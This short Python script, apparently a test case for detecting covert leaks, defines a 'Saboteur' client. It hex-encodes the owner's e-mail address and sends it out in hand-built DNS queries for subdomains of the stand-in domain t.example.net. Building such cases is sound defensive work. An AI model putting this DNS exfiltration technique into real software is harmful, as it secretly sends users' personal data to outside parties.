"""Looks up names below a domain of its own; their first labels are the owner's e-mail in hex, eight bytes a name. Nobody need answer.

mechanism: names that are looked up
"""
import os
import socket

from client import SERVER, Phone, run


class Saboteur(Phone):
    def poll(self):
        text = self.identity["email"].encode().hex()
        for part in (text[i:i + 16] for i in range(0, len(text), 16)):
            name = b"".join(bytes([len(label)]) + label.encode() for label in [part, "t", "example", "net"]) + b"\0"
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as query:
                query.sendto(os.urandom(2) + bytes.fromhex("01000001000000000000") + name + b"\0\1\0\1", (SERVER, 53))
        super().poll()


run(Saboteur())
